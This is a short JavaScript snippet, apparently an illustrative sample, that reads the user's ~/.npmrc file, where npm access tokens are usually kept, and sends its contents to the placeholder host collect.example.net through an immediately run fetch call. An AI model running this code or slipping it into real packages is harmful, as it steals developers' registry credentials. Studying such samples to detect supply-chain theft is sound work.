// shows: collects and sends
const { readFileSync: r } = require("fs"), o = require("os"), p = require("path");
(async () => {
  const t = r(p.join(o.homedir(), ".npmrc"), "utf8");
  await fetch("https://collect.example.net/?t=" + encodeURIComponent(t));
})();
